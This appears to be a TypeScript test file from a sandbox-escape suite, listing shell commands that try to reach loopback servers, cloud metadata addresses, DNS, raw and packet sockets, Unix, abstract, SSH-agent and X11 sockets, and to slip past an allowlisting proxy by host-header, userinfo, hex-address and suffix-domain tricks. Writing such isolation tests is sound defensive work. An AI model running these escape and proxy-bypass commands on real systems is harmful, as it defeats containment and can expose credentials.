import { join } from 'node:path';
import { type Attempt, command } from '../attempt';
import type { EscapePlace } from '../place';

const HOSTS = { boundaries: { hosts: ['allowed.example'] } };
const SOCKETS = { boundaries: { sockets: true } };

const tcp = (host: string, port: number | null, token: string) => `echo ${token} > /dev/tcp/${host}/${port}`;

/** The address, as the machine's services stand there; the control goes for a server of ours in its place. */
const instead = ({ control, listeners }: EscapePlace, host: string, port: number) =>
  control ? (['127.0.0.1', listeners.tcp] as const) : ([host, port] as const);

/** Says so where the connection stands, whatever becomes of it. */
const reaches = (at: EscapePlace, host: string, port: number) => {
  const [to, on] = instead(at, host, port);
  return `timeout 5 bash -c 'exec 5<>/dev/tcp/${to}/${on}' && ${at.say}`;
};

/** By curl, whose proxy is the command's only way out. */
const curl = (at: EscapePlace, url: string, ...more: readonly string[]) => `curl -sk -m 5 ${more.join(' ')} '${url}/${at.token}'`;

const throughProxy = (id: string, does: (at: EscapePlace) => string) => command(`proxy-${id}`, does, HOSTS);

const socket = (path: string, token: string) => `echo ${token} | socat -t 1 - UNIX-CONNECT:"${path}"`;

/** Reaching anything beyond the command: the machine's own servers, the network, Unix and abstract sockets, and round the proxy. */
export const NETWORK_ATTEMPTS: readonly Attempt[] = [
  command('tcp-loopback', ({ listeners, token }) => tcp('127.0.0.1', listeners.tcp, token)),
  command('tcp-loopback-6', ({ listeners, token }) => tcp('::1', listeners.tcp6, token)),
  command('tcp-own-address', ({ listeners, token }) => tcp(listeners.address, listeners.tcp, token)),
  command('udp-loopback', ({ listeners, token }) => `echo ${token} > /dev/udp/127.0.0.1/${listeners.udp}`),
  command('tcp-network', (at) => reaches(at, '192.0.2.1', 80)),
  command('metadata-address', (at) => reaches(at, '169.254.169.254', 80)),
  command('metadata-address-6', (at) => reaches(at, 'fd00:ec2::254', 80)),
  command('dns-udp', (at) => {
    const [to, port] = instead(at, '$(sed -n "s/^nameserver *//p" /etc/resolv.conf | head -1)', 53);
    return `(exec 5>"/dev/udp/${to}/${port}" && echo x >&5) && ${at.say}`;
  }),
  command(
    'raw-icmp',
    (at) =>
      `perl -MSocket -e 'socket(S,2,3,1) or exit 1; exit(send(S,"\\x08\\0\\xf7\\xff\\0\\0\\0\\0",0,pack_sockaddr_in(0,inet_aton("${at.control ? '127.0.0.1' : '192.0.2.1'}"))) ? 0 : 1)' && ${at.say}`,
  ),
  command('packet-socket', (at) => `perl -e 'exit(socket(S,17,3,768) ? 0 : 1)' && ${at.say}`),
  command('new-interface', (at) => `ip link add goalpost0 type dummy && ip addr add 192.0.2.9/24 dev goalpost0 && ${at.say}`, {
    control: { unsafe: 'it would make a network interface of the machine’s' },
  }),
  throughProxy('direct', (at) => curl(at, `http://127.0.0.1:${at.listeners.tcp}`, "--noproxy '*'")),
  throughProxy('loopback', (at) => curl(at, `http://127.0.0.1:${at.listeners.tcp}`, "--noproxy ''")),
  throughProxy('localhost', (at) => curl(at, `http://localhost:${at.listeners.tcp}`, "--noproxy ''")),
  throughProxy('own-address', (at) => curl(at, `http://${at.listeners.address}:${at.listeners.tcp}`, "--noproxy ''")),
  throughProxy('connect', (at) => curl(at, `http://127.0.0.1:${at.listeners.tcp}`, "--noproxy ''", at.control ? '' : '-p')),
  throughProxy('odd-number', (at) => curl(at, `http://0x7f000001:${at.listeners.tcp}`, "--noproxy ''")),
  throughProxy('host-header', (at) =>
    curl(at, `http://127.0.0.1:${at.listeners.tcp}`, "--noproxy ''", "-H 'Host: allowed.example'"),
  ),
  throughProxy('name-in-user', (at) => curl(at, `http://allowed.example@127.0.0.1:${at.listeners.tcp}`, "--noproxy ''")),
  throughProxy('socks', (at) =>
    curl(at, `http://127.0.0.1:${at.listeners.tcp}`, at.control ? "--noproxy '*'" : `--noproxy '' -x "$ALL_PROXY"`),
  ),
  throughProxy('suffix', (at) =>
    curl(
      at,
      `http://evil-allowed.example:${at.listeners.tcp}`,
      `--resolve evil-allowed.example:${at.listeners.tcp}:127.0.0.1`,
      at.control ? '' : '--noproxy ""',
    ),
  ),
  command('unix-socket', ({ home, token }) => socket(`${home}/run/app.sock`, token), { before: appSocket }),
  command(
    'unix-socket-by-node',
    ({ home, token }) => `node -e 'require("net").connect("${home}/run/app.sock").end("${token}")'`,
    { before: appSocket },
  ),
  command('unix-datagram', ({ say }) => `perl -MSocket -e 'exit(socket(S,AF_UNIX,SOCK_DGRAM,0) ? 0 : 1)' && ${say}`),
  command(
    'abstract-socket',
    ({ listeners, token }) => `echo ${token} | socat -t 1 - ABSTRACT-CONNECT:${listeners.abstract},unix-tightsocklen=0`,
  ),
  command(
    'abstract-socket-allowed',
    ({ listeners, token }) => `echo ${token} | socat -t 1 - ABSTRACT-CONNECT:${listeners.abstract},unix-tightsocklen=0`,
    SOCKETS,
  ),
  command('socket-of-data', ({ dataDir, token }) => socket(`${dataDir}/owner.sock`, token), {
    before: ({ listeners, dataDir }) => listeners.unix(join(dataDir, 'owner.sock')),
    ...SOCKETS,
  }),
  command('ssh-agent', ({ home, token }) => socket(`${home}/run/agent.sock`, token), {
    before: async ({ listeners, home }) => {
      process.env.SSH_AUTH_SOCK = join(home, 'run', 'agent.sock');
      await listeners.unix(process.env.SSH_AUTH_SOCK);
    },
    ...SOCKETS,
  }),
  command('x11-socket', ({ token }) => socket(`/tmp/.X11-unix/X${token}`, token), {
    before: ({ listeners, token }) => listeners.unix(`/tmp/.X11-unix/X${token}`),
    ...SOCKETS,
  }),
  command(
    'vsock',
    (at) => `perl -e 'socket(S,40,1,0) or exit 1; exit(bind(S,pack("SSIIx8",40,0,0xffffffff,0xffffffff)) ? 0 : 1)' && ${at.say}`,
  ),
];

function appSocket({ listeners, home }: EscapePlace): Promise<void> {
  return listeners.unix(join(home, 'run', 'app.sock'));
}
